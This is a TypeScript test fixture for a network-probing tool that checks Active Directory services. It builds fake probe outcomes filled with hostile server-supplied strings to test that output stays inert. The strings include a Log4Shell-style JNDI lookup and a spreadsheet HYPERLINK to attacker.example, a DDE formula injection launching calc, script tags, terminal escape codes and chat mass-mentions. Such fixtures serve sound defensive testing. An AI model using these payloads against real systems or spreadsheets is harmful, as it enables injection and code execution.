import type { Task } from '../../src/commands/estate.ts';
import type { Certificate, Evidence, Tls } from '../../src/probe/evidence.ts';
import type { Circumstances, Outcome } from '../../src/probe/outcome.ts';
import type { HostFacts } from '../../src/wire/facts.ts';

/** What servers, certificates and DNS may hold that must not come to life on a screen, in a chat or in a spreadsheet. */
export const hostileEvidence: readonly string[] = [
  '<!channel> <@U1> <#C1> @here @everyone',
  '<at>all</at> <at id="0">Portolan</at>',
  '*bold* _it_ ~gone~ `code` **strong**',
  '[x](http://attacker.example) ![p](https://attacker.example/p.png)',
  'https://attacker.example www.attacker.example mailto:a@attacker.example',
  '<script>alert(1)</script> &lt;b&gt; &amp;',
  '{{DATE(2026-01-01T00:00:00Z,SHORT)}} $\u007bjndi:ldap://attacker.example\u007d',
  ':tada: #1 | a | b | \\',
  '# heading',
  '> quote',
  '\u202egnp.exe \u2066x\u2069 \u200bzero \ufeffmark \u00adsoft',
  '\u001b[31mred\u001b[0m \u001b]0;owned\u0007 \u009b2J \u0090q\u009c',
  'nul\u0000byte \u0008\u0008 \u007f',
  'two\r\nlines\nand \u2028 a third\u0085',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-1+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://attacker.example","x")',
  'lone \ud800 surrogate',
  '"quoted", and; parted\tby tabs',
  'x'.repeat(512),
];

const plain: Circumstances = {
  evidence: null,
  address: '10.0.0.5',
  via: null,
  attempts: 1,
  timings: { resolve: 1, connect: 2, tls: null, answer: 3, total: 6 },
};

function certificateOf(text: string): Certificate {
  return {
    subject: text,
    issuer: text,
    names: [text, 'sts.contoso.com'],
    notBefore: Date.UTC(2026, 0, 1),
    notAfter: Date.UTC(2027, 0, 1),
    serial: text,
    fingerprint: text,
    selfSigned: false,
  };
}

function tlsOf(text: string): Tls {
  const chain = [certificateOf(text), certificateOf(text)];
  return { protocol: text, cipher: text, alpn: text, chain, trustedBy: 'none', daysLeft: 3 };
}

/** Evidence of every kind, which says one text wherever it can say any. */
function evidenceOf(text: string): readonly Evidence[] {
  const tls = tlsOf(text);
  const clock = { serverTime: Date.UTC(2026, 10, 20), skewMs: 400_000 };
  return [
    { kind: 'tcp', banner: text },
    {
      kind: 'dns',
      question: text,
      type: text,
      rcode: text,
      addresses: [text],
      services: [{ host: text, port: 389, priority: 0, weight: 1 }],
      authoritative: true,
      truncated: false,
    },
    { kind: 'kerberos', errorCode: 6, errorName: text, realm: text, ...clock },
    { kind: 'ntp', stratum: 16, leap: 3, referenceId: text, offsetMs: 70_000, delayMs: 3 },
    {
      kind: 'ldap',
      defaultNamingContext: text,
      rootDomainNamingContext: text,
      dnsHostName: text,
      isSynchronized: false,
      isGlobalCatalogReady: false,
      ...clock,
      tls,
    },
    {
      kind: 'cldap',
      forest: text,
      domain: text,
      hostName: text,
      netbiosDomain: text,
      serverSite: text,
      clientSite: text,
      flags: [text],
    },
    { kind: 'rpc', listed: 1, endpoints: [{ name: text, uuid: text, port: 49_153, verdict: 'filtered' }] },
    { kind: 'smb', dialect: text, signingRequired: false, ...clock },
    { kind: 'winrm', status: 401, schemes: [text], productVendor: text, productVersion: text },
    { kind: 'adws', answer: 'fault', fault: text },
    { kind: 'http', status: 503, server: text, location: text, tls },
    { kind: 'crl', status: 200, issuer: text, thisUpdate: 0, nextUpdate: 1, bytes: 1 },
    { kind: 'tls', tls },
    { kind: 'client-certificate', asked: false, authorities: [text], tls },
    { kind: 'amqp', header: text, tls },
    {
      kind: 'federation-metadata',
      status: 200,
      entityId: text,
      signing: [{ subject: text, notAfter: 0, fingerprint: text }],
      tls,
    },
    { kind: 'proxy', status: 407, schemes: [text], via: text },
  ];
}

/** An outcome of every verdict, and an open one of every kind of evidence, each saying one text wherever it can. */
export function outcomesSaying(text: string): readonly Outcome[] {
  const said = { ...plain, address: text, via: text };
  const tls = tlsOf(text);
  return [
    ...evidenceOf(text).map((evidence) => ({ verdict: 'open', ...said, evidence }) as const),
    { verdict: 'open-wrong-service', ...said, seen: text, looksLike: 'plain-text' },
    { verdict: 'open-silent', ...said },
    { verdict: 'open-then-closed', ...said, how: 'reset' },
    { verdict: 'refused', ...said },
    { verdict: 'filtered', ...said },
    { verdict: 'unreachable', ...said, code: text },
    { verdict: 'unresolved', ...said, name: text, code: text },
    { verdict: 'open-or-filtered', ...said },
    { verdict: 'tls-too-old', ...said, offered: text },
    { verdict: 'certificate-invalid', ...said, rules: ['wrong-name', 'unknown-authority'], expected: text, tls },
    { verdict: 'intercepted', ...said, authority: text, tls },
    { verdict: 'proxy-blocked', ...said, status: 407, schemes: [text] },
    { verdict: 'refused-by-policy', ...said, rule: 'host', detail: text },
    { verdict: 'error', ...said, code: text, detail: text },
    { verdict: 'error', ...said, code: 'proxy-refused', detail: text },
  ];
}

/** Facts of a server that says one text wherever it can. */
export function factsSaying(text: string): HostFacts {
  const short = text.slice(0, 300);
  return {
    collectedAt: 0,
    startedAt: 0,
    hostName: short,
    fullName: short,
    operatingSystem: { platform: 'windows', name: short, version: short },
    cpu: { model: short, cores: 4, mhz: 2_400 },
    memory: { totalBytes: 16e9, freeBytes: 8e9 },
    disks: [{ path: short, totalBytes: 1e9, freeBytes: 1e8 }],
    timeZone: short,
    skewMs: 1_500,
    nodeVersion: short,
    windows: {
      dotnetRelease: 528_040,
      powershellVersion: short,
      transcription: true,
      tls: [],
      domain: short,
      domainJoined: true,
      installationType: 'core',
      edition: short,
      build: short,
      dcom: [],
      executionPolicy: short,
      trustedHosts: short,
      services: null,
      software: null,
      machineConfig: null,
    },
  };
}

const mention = '<!channel> <@U1> <at>all</at> @everyone';
const link = '[x](http://attacker.example) *bold* `code`';
const control = '\u001b[31mred\u001b]0;owned\u0007 \u009b2J nul\u0000';
const reversed = '\u202egnp.exe two\r\nlines';

/** What the servers of one estate say, by the kind of probe: three fail, each in another way, and what speaks means harm. */
export function hostileOutcome({ probe }: Pick<Task, 'probe'>): Outcome {
  const open = (evidence: Evidence): Outcome => ({ verdict: 'open', ...plain, evidence });
  const clock = { serverTime: null, skewMs: 130_000 };
  switch (probe.kind) {
    case 'ldap':
      return { verdict: 'open-wrong-service', ...plain, seen: `${mention} ${control}`, looksLike: 'plain-text' };
    case 'ldaps':
      return {
        verdict: 'certificate-invalid',
        ...plain,
        rules: ['wrong-name'],
        expected: probe.host,
        tls: tlsOf(link),
      };
    case 'gc':
      return { verdict: 'filtered', ...plain, attempts: 2 };
    case 'kerberos':
      return open({ kind: 'kerberos', errorCode: 6, errorName: mention, realm: reversed, ...clock });
    case 'kerberos-udp':
      return { verdict: 'open-or-filtered', ...plain, attempts: 2 };
    default:
      return open({ kind: 'tcp', banner: "=cmd|' /C calc'!A0" });
  }
}
